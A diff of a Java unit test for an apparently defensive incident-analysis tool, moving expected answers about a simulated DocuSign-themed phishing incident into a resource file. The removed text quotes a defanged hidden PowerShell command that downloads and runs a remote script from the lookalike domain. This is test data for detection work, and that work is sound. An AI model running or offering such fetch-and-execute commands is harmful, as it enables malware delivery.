@@ -9,6 +9,7 @@ import io.clicktrail.alerter.render.TextStyle;
 import io.clicktrail.enricher.tuning.Catalogues;
 import io.clicktrail.standalone.EventTimeReader;
 import io.clicktrail.standalone.stack.Stack;
+import java.nio.file.Files;
 import java.nio.file.Path;
 import java.time.Duration;
 import java.util.List;
@@ -20,6 +21,8 @@ import org.junit.jupiter.api.Test;
 class DemoAnswersTest {
 
     private static final Path DEMO = Path.of("src/main/resources/io/clicktrail/standalone/demo");
+    private static final Path ANSWERS =
+            Path.of("src/test/resources/io/clicktrail/standalone/detectiontest/demo-answers.txt");
     private static final Set<String> ASKED_FIRST = Set.of("Q2", "Q4", "Q5", "Q7", "Q8", "Q11", "Q14", "Q16");
 
     @Test
@@ -31,15 +34,7 @@ class DemoAnswersTest {
                         .filter(question -> ASKED_FIRST.contains(question.getId()))
                         .map(DemoAnswersTest::said)
                         .collect(Collectors.joining("\n")))
-                .isEqualTo("""
-                        Q2: Yes: message r2231@docusign-invoices[.]click from review@docusign-invoices[.]click to a.meyer@corp.example at 2026-10-14T09:04:31Z, 7 minutes before the click, has a link to the site. The gateway holds it for phishing and delivered it. Other recipients: t.brandt@corp.example; none of them was seen to contact the site.
-                        Q4: The organisation first saw docusign-invoices[.]click at 2026-10-14T09:12:07Z, in this chain. docusign-invoices[.]click is not known as shared hosting. Needs: registration date of the domain (RDAP or a feed).
-                        Q5: No form was submitted in the requests seen (1). Strange sign-ins in the day after the click: 2026-10-14T09:52:07Z by microsoft.entra.sign-in from 203.0.113.150 (a new country, NG, high risk by the identity provider).
-                        Q7: Yes: explorer.exe started wscript.exe: "C:\\Windows\\System32\\WScript.exe" "E:\\Invoice_2231.js" , as corp\\a.meyer. Needs: signature of the image (EDR, or Sysmon 7).
-                        Q8: wscript.exe started powershell.exe: "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe" -NoProfile -WindowStyle Hidden -Command "iex (iwr hxxp://docusign-invoices[.]click/s/2231 -UseBasicParsing).Content". Its processes: a further file was fetched (Command and Control, T1105) at 2026-10-14T09:13:24Z: "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe" -NoProfile -WindowStyle Hidden -Command "iex (iwr hxxp://doc…(+54 characters). They connected to docusign-invoices[.]click (powershell.exe), 203[.]0[.]113[.]57 (powershell.exe). Needs: registry and network events below the first process (EDR, or Sysmon 3, 13); logons of other hosts (Windows 4624, auditd USER_LOGIN).
-                        Q11: not known Needs: list of phishing simulations and approved tests.
-                        Q14: No other host or user was seen to contact the site.
-                        Q16: No: less than 10.0 kB an hour to 198.51.100.22, 198.51.100.23, 203[.]0[.]113[.]57 and 1 more from 2026-10-14T09:00:00Z to 2026-10-14T10:00:00Z, counted by zeek.conn, zeek.http; 1.0 MB a day count as data sent out (list of 2026-11-30).""");
+                .isEqualTo(Files.readString(ANSWERS).strip());
     }
 
     @Test
